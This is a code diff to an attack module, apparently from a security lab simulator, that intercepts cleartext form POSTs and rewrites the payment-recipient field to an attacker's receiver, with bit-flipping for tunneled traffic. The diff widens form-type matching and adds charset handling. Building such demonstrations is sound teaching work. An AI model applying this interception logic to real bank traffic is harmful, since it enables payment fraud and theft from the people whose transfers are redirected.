@@ -1,7 +1,10 @@
 import type { LabFact } from '../../facts/facts.ts';
+
 import { rawHeaderValue } from '../leash/raw-headers.ts';
 import type { NamedAttack, Situation } from './attack.ts';
+import { statedCharset } from '../strip/media-type.ts';
 import { flipBits } from './bit-flip.ts';
+import { withField } from './form-field.ts';
 import type { InterceptedExchange } from './intercepted-exchange.ts';
 
 /** The field that decides where money goes, and whom the attacker would have there. */
@@ -19,32 +22,29 @@ export const tamper = {
   tls: 'tunnel',
   armedBy: isTransfer,
   request: (exchange, situation) => {
-    if (
-      exchange.method !== 'POST' ||
-      !FORM.test(rawHeaderValue(exchange.requestHeaders, 'content-type') ?? '')
-    )
-      return;
+    const type = rawHeaderValue(exchange.requestHeaders, 'content-type') ?? '';
+    if (exchange.method !== 'POST' || !FORM.test(type)) return;
     // The form that was waited for came in clear: no record is left to change.
     situation.disarm();
-    redirectMoney(exchange, situation);
+    if (URL_ENCODED.test(type)) redirectMoney(exchange, situation, statedCharset(type));
   },
   tunnel: ({ disarm, report }) =>
     flipBits(disarm, (flip) => report({ type: 'bytes-tampered', direction: 'to-bank', ...flip })),
 } as const satisfies NamedAttack;
 
-const FORM = /^application\/x-www-form-urlencoded\b/i;
-const RECEIVER_FIELD = new RegExp(`(?<=^|&)${FIELD}=[^&]*`, 'g');
+/** How a form may travel (HTML, section 4.10.22). In parts, its fields are left alone. */
+const FORM = /^(?:application\/x-www-form-urlencoded|multipart\/form-data)[ \t]*(?:;|$)/i;
+const URL_ENCODED = /^application\/x-www-form-urlencoded[ \t]*(?:;|$)/i;
 
 function isTransfer(fact: LabFact): boolean {
   return fact.type === 'form-filled' && fact.fields.some(({ name }) => name === FIELD);
 }
 
-function redirectMoney(exchange: InterceptedExchange, { report }: Situation): void {
+function redirectMoney(exchange: InterceptedExchange, { report }: Situation, charset?: string): void {
   exchange.rewriteRequestBody((text) => {
-    const before = new URLSearchParams(text).get(FIELD);
-    const changed = text.replaceAll(RECEIVER_FIELD, `${FIELD}=${RECEIVER}`);
-    if (before === null || changed === text) return text;
-    report({ type: 'form-tampered', field: FIELD, before, after: RECEIVER });
-    return changed;
+    const changed = withField(text, FIELD, RECEIVER, charset);
+    if (changed === undefined) return text;
+    report({ type: 'form-tampered', field: FIELD, before: changed.before, after: RECEIVER });
+    return changed.body;
   });
 }
